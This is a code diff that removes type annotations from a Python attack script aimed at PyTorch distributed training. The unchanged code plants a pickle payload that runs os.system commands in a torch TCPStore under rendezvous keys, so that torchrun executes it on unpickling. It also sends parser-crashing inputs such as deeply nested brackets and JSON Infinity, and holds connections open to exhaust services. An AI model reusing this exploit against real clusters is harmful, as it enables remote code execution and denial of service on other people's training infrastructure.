@@ -5,8 +5,6 @@
 anyone can read in its source, and it prints what it did.
 """
 
-from __future__ import annotations
-
 import argparse
 import base64
 import contextlib
@@ -14,26 +12,24 @@ import os
 import pickle
 import socket
 import time
-from collections.abc import Callable, Iterator
 from datetime import timedelta
-from typing import Any
 
 Target = tuple[str, int, str]
-_HOLDS: list[socket.socket] = []
+_HOLDS = []
 """Connections that are kept open and say nothing more."""
 
 
 class Payload:
     """What leaves a file behind when it is unpickled."""
 
-    def __init__(self, proof: str) -> None:
+    def __init__(self, proof):
         self.proof = proof
 
-    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
+    def __reduce__(self):
         return os.system, (f"id > {self.proof}",)
 
 
-WORDS: dict[str, Callable[[str], list[bytes]]] = {
+WORDS = {
     "brackets": lambda proof: [b"[" * 4000, b"[" * 65000],
     "infinity": lambda proof: [
         b'{"token": "x", "node": Infinity}',
@@ -59,7 +55,7 @@ WORDS: dict[str, Callable[[str], list[bytes]]] = {
 }
 
 
-def say(target: Target, words: list[bytes], hold: bool) -> int:
+def say(target, words, hold):
     """Every word to a port, each in a datagram or a connection of its own; how many went out."""
     host, port, kind = target
     attempts = 0
@@ -81,7 +77,7 @@ def say(target: Target, words: list[bytes], hold: bool) -> int:
 GUESSES = ("stash", "none", "default", "0")
 
 
-def put_pickles(target: Target, proof: str) -> int:
+def put_pickles(target, proof):
     """Leave the payload in torch's store wherever torchrun might look for the state of a rendezvous."""
     from torch.distributed import TCPStore
 
@@ -92,7 +88,7 @@ def put_pickles(target: Target, proof: str) -> int:
         socket.create_connection((host, port), timeout=1.0).close()
         state = base64.b64encode(pickle.dumps(Payload(proof))).decode()
         with contextlib.suppress(RuntimeError, ValueError):
-            store: Any = TCPStore(
+            store = TCPStore(
                 host, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False
             )
             keys = {f"torch.rendezvous.{name}" for name in GUESSES} | set(_rendezvous(store))
@@ -102,13 +98,13 @@ def put_pickles(target: Target, proof: str) -> int:
     return 0
 
 
-def _rendezvous(store: Any) -> Iterator[str]:
+def _rendezvous(store):
     """The names under which a rendezvous keeps its state, which newer stores tell anybody."""
-    names: list[str] = store.list_keys() if hasattr(store, "list_keys") else []
+    names = store.list_keys() if hasattr(store, "list_keys") else []
     return (name for name in names if "rendezvous" in name)
 
 
-def main() -> None:
+def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--attack", required=True)
     parser.add_argument("--proof", required=True)
